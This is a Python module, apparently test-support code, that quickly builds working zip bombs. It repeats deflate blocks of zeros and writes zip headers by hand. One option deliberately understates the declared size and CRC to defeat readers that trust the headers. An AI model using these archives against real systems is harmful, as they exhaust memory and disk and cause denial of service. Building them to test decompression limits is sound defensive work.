"""Write real zip bombs quickly, without compressing gigabytes.

A deflate stream of zeros is a first block, the same 1 MiB block repeated,
and a final empty block, so a stream that inflates to a gigabyte takes
about a megabyte and no time to build. The zip is written by hand because
the zipfile module cannot store data that is already compressed, and
because one bomb declares sizes that do not match its data.
"""

from __future__ import annotations

import struct
import zlib
from dataclasses import dataclass
from functools import lru_cache

MIB = 1 << 20


@dataclass(frozen=True)
class RawEntry:
    """A zip entry whose data is already deflated (or stored when method is 0)."""

    name: str
    data: bytes
    crc: int
    file_size: int
    method: int = 8


@lru_cache(maxsize=None)
def zeros_stream(mebibytes: int) -> tuple[bytes, int]:
    """Return (raw deflate stream, CRC-32) of ``mebibytes`` MiB of zero bytes."""
    block = b"\0" * MIB
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = compressor.compress(block) + compressor.flush(zlib.Z_SYNC_FLUSH)

    # With a window full of zeros, every later block compresses to the same bytes.
    repeated = compressor.compress(block) + compressor.flush(zlib.Z_SYNC_FLUSH)
    stream = first + repeated * (mebibytes - 1) + compressor.flush()
    crc = 0
    for _ in range(mebibytes):
        crc = zlib.crc32(block, crc)
    return stream, crc


def zeros_entry(name: str, mebibytes: int, declared_size: int | None = None) -> RawEntry:
    """Return an entry inflating to ``mebibytes`` MiB of zeros.

    ``declared_size`` makes the headers understate the inflated size. The
    CRC then covers only the declared bytes, so a reader that stops at the
    declared size finds nothing wrong.
    """
    stream, crc = zeros_stream(mebibytes)
    if declared_size is None:
        return RawEntry(name, stream, crc, mebibytes * MIB)
    return RawEntry(name, stream, zlib.crc32(b"\0" * declared_size), declared_size)


def stored_entry(name: str, data: bytes) -> RawEntry:
    """Return an entry holding ``data`` deflated, with honest headers."""
    compressor = zlib.compressobj(6, zlib.DEFLATED, -15)
    return RawEntry(name, compressor.compress(data) + compressor.flush(), zlib.crc32(data), len(data))


def write_zip(path, entries: list[RawEntry]) -> None:
    """Write a zip archive of raw entries: local headers, data, central directory."""
    local = bytearray()
    central = bytearray()
    dos_time, dos_date = 0, (1980 - 1980) << 9 | 1 << 5 | 1
    for entry in entries:
        name = entry.name.encode("utf-8")
        offset = len(local)
        sizes = (entry.crc, len(entry.data), entry.file_size)
        local += struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, entry.method, dos_time, dos_date,
                             *sizes, len(name), 0)
        local += name + entry.data
        central += struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, entry.method, dos_time,
                               dos_date, *sizes, len(name), 0, 0, 0, 0, 0, offset)
        central += name
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(central),
                      len(local), 0)
    with open(path, "wb") as handle:
        handle.write(bytes(local) + bytes(central) + end)
